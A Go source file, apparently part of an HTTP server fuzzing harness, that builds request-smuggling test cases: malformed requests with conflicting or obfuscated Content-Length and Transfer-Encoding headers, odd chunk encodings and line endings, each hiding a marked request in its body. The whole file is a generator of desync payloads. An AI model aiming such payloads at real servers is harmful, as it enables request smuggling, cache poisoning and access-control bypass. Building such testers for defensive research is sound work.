package attack

import (
	"fmt"
	"math/rand/v2"
	"regexp"
	"strconv"
	"strings"
)

// framingCase holds the bytes for one connection: a request that may be malformed, with a request
// hidden in its body, and two ordinary requests behind it, the last one with Connection: close. The
// target of each request has a different marker.
type framingCase struct {
	number int
	bytes  string
	shape  string // the unusual parts of the first request, for messages
}

// marker returns the marker of request k of a case. It contains the number twice, so that a mutated
// marker is invalid.
func marker(number, k int) string { return fmt.Sprintf("n=%d.%d.%d", number, k, number) }

// markerIn returns the marker in a request line; empty = none.
func markerIn(line string) string {
	m := markerForm.FindStringSubmatch(line)
	if m == nil || m[1] != m[2] {
		return ""
	}
	return m[0]
}

var markerForm = regexp.MustCompile(`n=(\d+)\.\d\.(\d+)`)

// marked returns the target of request k of a case: the path of file k, and the marker.
func marked(paths []string, number, k int) string {
	return paths[k%len(paths)] + "?" + marker(number, k)
}

// hidden is the k of the request in the body.
const hidden = 3

// newCase returns the case with a number. Its random numbers depend on the seed and the number.
func newCase(seed uint64, number int, paths []string) framingCase {
	r := rand.New(rand.NewPCG(seed, uint64(number)))
	m := message{r: r, number: number, paths: paths, odd: []int{0, 1, 1, 1, 2, 2, 3, 9}[r.IntN(8)]}
	first := m.first()
	var b strings.Builder
	b.WriteString(first)
	for k := 1; k <= 2; k++ {
		end := ""
		if k == 2 {
			end = "Connection: close\r\n"
		}
		fmt.Fprintf(&b, "GET %s HTTP/1.1\r\nHost: h\r\n%s\r\n", marked(paths, number, k), end)
	}
	return framingCase{number: number, bytes: b.String(), shape: strings.Join(m.shape, " ")}
}

// message builds the first request of a case.
type message struct {
	r      *rand.Rand
	number int
	paths  []string
	shape  []string
	odd    int // number of oddities that it may still get: with many of them every server rejects it
}

// pick returns the first choice, the ordinary one, with probability usual or if no oddity is left;
// otherwise a random choice.
func (m *message) pick(usual float64, choices ...string) string {
	if m.odd == 0 || m.r.Float64() < usual {
		return choices[0]
	}
	m.odd--
	c := choices[m.r.IntN(len(choices))]
	m.shape = append(m.shape, strconv.Quote(c))
	return c
}

func (m *message) first() string {
	lines := []string{m.requestLine()}
	lines = append(lines, strings.Split(m.pick(0.93, "Host: h", "host:h", "Host: a|Host: b", "Host: h|Host: h",
		"X-No: host", "Host:", "Host: h, i", "Host: u@h", "Host: h:80",
		"Host: h:80:80", "Host : h", " Host: h", "Host: h\x00", "Host: [::1]", "Host: h/x", "Host:\th"), "|")...)
	hiddenRequest := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: h\r\n\r\n", marked(m.paths, m.number, hidden))
	fields, body := m.framing(hiddenRequest)
	lines = append(lines, fields...)
	lines = append(lines, m.extra()...)
	if m.r.IntN(4) == 0 {
		m.r.Shuffle(len(lines)-1, func(i, j int) { lines[i+1], lines[j+1] = lines[j+1], lines[i+1] })
	}
	head := m.join(lines)
	if m.odd > 0 && m.r.IntN(4) == 0 {
		head = mutate(m.r, head, 3)
		m.shape = append(m.shape, "mutated-head")
	}
	if m.odd > 0 && m.r.IntN(8) == 0 {
		body = mutate(m.r, body, 3)
		m.shape = append(m.shape, "mutated-body")
	}
	return m.pick(0.95, "", "\r\n", "\n", "\r\n\r\n", "\r", " ", "\x00", "\n\n\n", strings.Repeat("\r\n",
		9)) + head + body
}

func (m *message) requestLine() string {
	method := m.pick(0.8, "GET", "HEAD", "POST", "PUT", "OPTIONS", "DELETE", "TRACE", "CONNECT", "get", "GE T",
		"PATCH", "PRI", "GET\t", " GET", "G\x00ET", "XGET")
	target := marked(m.paths, m.number, 0)
	target = m.pick(0.85, target, "http://h"+target, "HTTP://other"+target, "https://h:443"+target,
		"http://"+target, "//h"+target, target+"#f", target+"#f?n=8", "*", "h:80",
		target[1:], target+" x", target+"\tx", target+"\x7f", target+"\xc3\xa4", "http://h?"+target,
		"ftp://h"+target, "http://u@h"+target, "/../.."+target, target+"%0d%0a", target+"\\",
		target+"\"<>^`{|}")
	version := m.pick(0.9, " HTTP/1.1", " HTTP/1.0", " HTTP/1.2", " HTTP/1.9", " HTTP/2.0", " HTTP/0.9", "",
		" http/1.1", "  HTTP/1.1", "\tHTTP/1.1", " HTTP/1.1 ", " HTTP/01.1", " HTTP/1.01", " HTTP/11",
		" HTTP/1.1x", " HTTP/1,1", " HTTP/+1.1")
	return method + m.pick(0.98, " ", "  ", "\t", "\x0b", "\r") + target + version
}

// framing returns the fields that determine the end of the body, and the body.
func (m *message) framing(inside string) (fields []string, body string) {
	switch m.r.IntN(20) {
	case 0, 1, 2, 3, 4:
		return nil, ""
	case 5, 6, 7, 8, 9:
		return []string{m.length(len(inside))}, inside
	case 10, 11, 12, 13, 14:
		return []string{m.coding()}, m.chunks(inside)
	case 15, 16:
		return []string{m.length(len(inside)), m.length(m.r.IntN(2) * len(inside))}, inside
	case 17:
		return []string{m.coding(), m.coding()}, m.chunks(inside)
	}
	// Both: by Content-Length the body ends before the hidden request or behind all chunks.
	body = m.chunks(inside)
	n := len(body)
	if m.r.IntN(2) == 0 {
		n = strings.Index(body, inside)
	}
	return []string{m.length(n), m.coding()}, body
}

// length returns a Content-Length field of size, or one that a careless server takes for it.
func (m *message) length(size int) string {
	n := strconv.Itoa(size)
	return m.pick(0.6, "Content-Length: "+n, "Content-Length: 0", "Content-Length: 1",
		"Content-Length: "+strconv.Itoa(size-1), "Content-Length: "+strconv.Itoa(size+1),
		"Content-Length: +"+n, "Content-Length: -"+n, "Content-Length: 0"+n,
		"Content-Length: 0x"+strconv.FormatInt(int64(size), 16), "Content-Length: "+n+", "+n,
		"Content-Length: "+n+",0",
		"Content-Length:", "Content-Length: ,"+n, "Content-Length: "+n+" 0", "Content-Length: "+n+";x",
		"Content-Length: \""+n+"\"", "Content-Length\t: "+n, "Content-Length : "+n, " Content-Length: "+n,
		"Content_Length: "+n, "Content-Length:\t"+n+"\t", "Content-Length:\x0b"+n, "Content-Length: "+n+"\x00",
		"Content-Length: "+n+".0", "Content-Length: 1e2", "content-length: "+n,
		"X:\r\n Content-Length: "+n, "Content-Length:\r\n "+n, "Content-Length: 18446744073709551616",
		"Content-Length: "+strconv.Itoa(size)+"000000000000000000000", "Content-Length: 4294967297")
}

// coding returns the field Transfer-Encoding: chunked, or one that a careless server takes for it.
func (m *message) coding() string {
	return m.pick(0.65, "Transfer-Encoding: chunked", "transfer-encoding:chunked", "Transfer-Encoding: Chunked",
		"Transfer-Encoding: chunked, identity", "Transfer-Encoding: identity",
		"Transfer-Encoding: identity, chunked",
		"Transfer-Encoding: gzip, chunked", "Transfer-Encoding: chunked, chunked",
		"Transfer-Encoding: chunked;q=1", "Transfer-Encoding: xchunked", "Transfer-Encoding: chunke",
		"Transfer-Encoding: \"chunked\"",
		"Transfer-Encoding:\x0bchunked", "Transfer-Encoding: chunked\x00", "Transfer-Encoding:",
		"Transfer-Encoding: ,chunked", "Transfer-Encoding: chunked,", "Transfer-Encoding : chunked",
		"Transfer-Encoding\t: chunked",
		" Transfer-Encoding: chunked", "Transfer_Encoding: chunked", "Transfer-Encoding: x\r\n chunked",
		"Transfer-Encoding:\r\n chunked", "X: x\r\n Transfer-Encoding: chunked",
		"Transfer-Encoding: \xffchunked", "Transfer-Encoding: chunked\t",
		"Transfer-Encoding: deflate", "TE: chunked", "Transfer-Encoding: c\rhunked",
		"X: x\rTransfer-Encoding: chunked", "X: x\nTransfer-Encoding: chunked",
		"\rTransfer-Encoding: chunked", "Transfer-Encoding\r: chunked", "Transfer-Encoding: chun ked")
}

// chunks returns inside in chunked coding, or the last chunk with inside behind it.
func (m *message) chunks(inside string) string {
	size := strconv.FormatInt(int64(len(inside)), 16)
	size = m.pick(0.75, size, "0"+size, "0x"+size, strings.ToUpper(size), size+" ", " "+size, size+"\t", "+"+size,
		"-"+size, size+";a", size+";a=b", size+"; a=\"b\\\"\r\n\"", size+";a=\"b;\"", size+";", size+" ; a = b",
		size+";a\n", size+"\r",
		size+"\x00", size+"g", "", size+";\r", "10000000000000000"+size, "0000000000000000"+size,
		"00000000000000000000000"+size, size+",", size+";"+strings.Repeat("a", 5000), size+"\x0b", "f"+size)
	end := m.pick(0.92, "\r\n", "\n", "\r", "\r\r\n", "", "x\r\n", "\r\n\r\n")
	last := m.pick(0.85, "0\r\n\r\n", "0\n\n", "0\r\n\n", "00\r\n\r\n", "0;a\r\n\r\n", "0 \r\n\r\n",
		"0\r\nX: y\r\n\r\n", "0\r\nContent-Length: 5\r\n\r\n", "0\r\nTransfer-Encoding: chunked\r\n\r\n",
		"0\r\nX : y\r\n\r\n", "0\r\n X\r\n\r\n", "0\r\nX\r\n\r\n", "0\r\nX: y\n\r\n",
		"0\r\nX: y\r\r\n\r\n", "0\r\n\r", "0\r\n", "0\r\r\n", "-0\r\n\r\n", "0x0\r\n\r\n",
		"0\r\nHost: i\r\nExpect: 100-continue\r\n\r\n", "0\r\nX:\x00\r\n\r\n")
	if m.r.IntN(4) == 0 { // the hidden request is behind the end of the body
		m.shape = append(m.shape, "inside-behind")
		return last + inside
	}
	return size + m.pick(0.96, "\r\n", "\n", "\r") + inside + end + last
}

// extra returns further fields, most of them about the connection.
func (m *message) extra() (lines []string) {
	for range m.r.IntN(3) {
		lines = append(lines, m.pick(0.6, "X-A: b", "Connection: close", "Connection: keep-alive",
			"Connection: CLOSE", "Connection: x, close", "Connection: close, keep-alive",
			"Connection: Content-Length", "Connection: transfer-encoding", "Connection: host",
			"Connection: \"close\"", "Connection:", "Connection: ,,close",
			"Connection: close\x0b", "Connection: upgrade\r\nUpgrade: websocket",
			"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
			"Proxy-Connection: close", "Keep-Alive: timeout=1", "Expect: 100-continue", "Expect: 200-ok",
			"Expect: 100-continue, x", "TE: trailers", "Trailer: X", "X: a\r\n b", "X: a\r\n\tb", "X: a\r b",
			"X: a\nb: c", "X\x00: a", ": a", "X", "X:", "X: \x7f", "X: \x80\xff", "Range: bytes=0-1",
			"Content-Encoding: gzip", "X-Long: "+strings.Repeat("a", m.r.IntN(9000)),
			strings.TrimSuffix(strings.Repeat("A: b\r\n", m.r.IntN(120)), "\r\n")))
	}
	return lines
}

// join adds a line end to each line, usually CRLF.
func (m *message) join(lines []string) string {
	var b strings.Builder
	all := m.pick(0.95, "\r\n", "\n", "\r", "\r\r\n", "\n\r\n")
	for _, line := range append(lines, "") {
		b.WriteString(line)
		if m.odd > 0 && m.r.IntN(100) == 0 {
			b.WriteString(m.pick(0, "\r\n", "\r", "\n", "\r\r\n", "\r\n\r\n", " \r\n", "\x00\r\n", "\r\n "))
			continue
		}
		b.WriteString(all)
	}
	return b.String()
}
